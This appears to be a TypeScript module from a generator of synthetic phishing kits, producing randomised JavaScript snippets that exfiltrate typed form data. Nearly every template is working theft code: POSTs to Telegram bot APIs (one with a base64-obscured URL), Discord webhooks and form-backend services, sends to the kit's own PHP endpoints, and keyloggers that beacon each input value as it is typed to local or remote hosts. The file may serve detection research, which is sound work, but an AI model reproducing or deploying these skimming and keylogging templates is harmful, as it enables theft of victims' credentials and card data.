import type { Chance } from '../make/chance.ts'
import { js } from './kit.ts'

/** Statements that send off `data`, an object of what was typed. */
export type Send = string

const OWN =
  'send.php|inc/send.php|api/submit|submit.php|post.php|system/save.php|./api/v1/collect|actions/card.php|process.php|data/log.php'.split(
    '|',
  )
export const ownFile = (chance: Chance): string => chance.of(OWN)

const asText = 'Object.keys(data).map(function(k){return k+": "+data[k]}).join("\\n")'

const telegram = (chance: Chance): Send => {
  const token = `${chance.digits(10)}:AA${chance.base64(33).replace(/[+/]/g, '_')}`
  const chat = `${chance.of(['', '-100'])}${chance.digits(10)}`
  return chance.of([
    `fetch("https://api.telegram.org/bot${token}/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:"${chat}",text:${asText},parse_mode:"HTML"})}).catch(function(){});`,
    `fetch("https://api.telegram.org/bot${token}/sendMessage?chat_id=${chat}&text="+encodeURIComponent(${asText})).catch(function(){});`,
    `var BOT_TOKEN="${token}",CHAT_ID="${chat}";var x=new XMLHttpRequest();x.open("POST","https://api.telegram.org/bot"+BOT_TOKEN+"/sendMessage");x.setRequestHeader("Content-Type","application/json");x.send(JSON.stringify({chat_id:CHAT_ID,text:${asText}}));`,
    `fetch(atob("${Buffer.from(`https://api.telegram.org/bot${token}/sendMessage`).toString('base64')}"),{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:${js(chat)},text:${asText}})}).catch(function(){});`,
  ])
}

const discord = (chance: Chance): Send =>
  `fetch("https://${chance.of(['discord.com', 'discordapp.com'])}/api/webhooks/${chance.digits(19)}/${chance.base64(68).replace(/[+/]/g, '-')}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({username:"${chance.name(2)}",content:${asText}})}).catch(function(){});`

/** Services that take what any form sends them. */
export const backend = (chance: Chance): string =>
  chance.of([
    `https://formspree.io/f/${chance.letters(8)}`,
    `https://formsubmit.co/ajax/${chance.hex(32)}`,
    `https://getform.io/f/${chance.letters(8)}`,
    `https://submit-form.com/${chance.letters(9)}`,
    `https://script.google.com/macros/s/AKfycb${chance.base64(50).replace(/[+/]/g, '_')}/exec`,
    `https://api.sheetbest.com/sheets/${chance.hex(8)}-${chance.hex(4)}`,
    `https://formcarry.com/s/${chance.letters(11)}`,
  ])

const byBackend = (chance: Chance): Send =>
  `fetch("${backend(chance)}",{method:"POST",headers:{"Accept":"application/json","Content-Type":"application/json"},body:JSON.stringify(data)}).catch(function(){});`

/** To somebody else's service. */
export const farSend = (chance: Chance): Send =>
  chance.of([telegram, telegram, telegram, discord, byBackend])(chance)

/** To the kit's own host. */
export const nearSend = (chance: Chance): Send =>
  chance.of([
    `fetch("${ownFile(chance)}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(data)}).catch(function(){});`,
    `var b=new URLSearchParams(data);fetch("${ownFile(chance)}",{method:"POST",body:b}).catch(function(){});`,
    `var q=new XMLHttpRequest();q.open("POST","${ownFile(chance)}",true);q.setRequestHeader("Content-type","application/x-www-form-urlencoded");q.send(Object.keys(data).map(function(k){return k+"="+encodeURIComponent(data[k])}).join("&"));`,
    `try{window.sock=window.sock||new WebSocket("wss://"+location.host+"/ws?u=${chance.hex(8)}");sock.readyState==1&&sock.send(JSON.stringify({e:"form",d:data}))}catch(z){}`,
  ])

export const anySend = (chance: Chance): Send => (chance.maybe(0.7) ? nearSend(chance) : farSend(chance))

/** Each key that is pressed, as soon as it is. */
export function keyLog(chance: Chance): string {
  const to = js(
    chance.of([
      ownFile(chance),
      'live.php',
      '/api/input',
      `https://${chance.name(3)}.${chance.of(['top', 'icu', 'com', 'ru'])}/k`,
      'ajax/keep.php',
    ]),
  )
  const id = chance.hex(8)
  return chance.of([
    `document.querySelectorAll("input").forEach(function(i){i.addEventListener("input",function(){navigator.sendBeacon(${to},JSON.stringify({id:"${id}",f:i.name,v:i.value}))})});`,
    `document.addEventListener("input",e=>{fetch(${to},{method:"POST",keepalive:true,headers:{"Content-Type":"application/json"},body:JSON.stringify({uid:"${id}",field:e.target.name,value:e.target.value,t:Date.now()})}).catch(()=>{})});`,
    `(function(){var w,f=document.getElementsByTagName("input");function s(){var d={};for(var i=0;i<f.length;i++)d[f[i].name]=f[i].value;navigator.sendBeacon(${to},new Blob([JSON.stringify(d)],{type:"text/plain"}))}for(var i=0;i<f.length;i++)f[i].oninput=function(){clearTimeout(w);w=setTimeout(s,${150 + chance.below(500)})}})();`,
    `var ses="${id}";document.body.addEventListener("keyup",function(e){if(e.target.tagName!="INPUT")return;var r=new XMLHttpRequest;r.open("POST",${to});r.setRequestHeader("Content-Type","application/x-www-form-urlencoded");r.send("s="+ses+"&n="+e.target.name+"&v="+encodeURIComponent(e.target.value))});`,
  ])
}
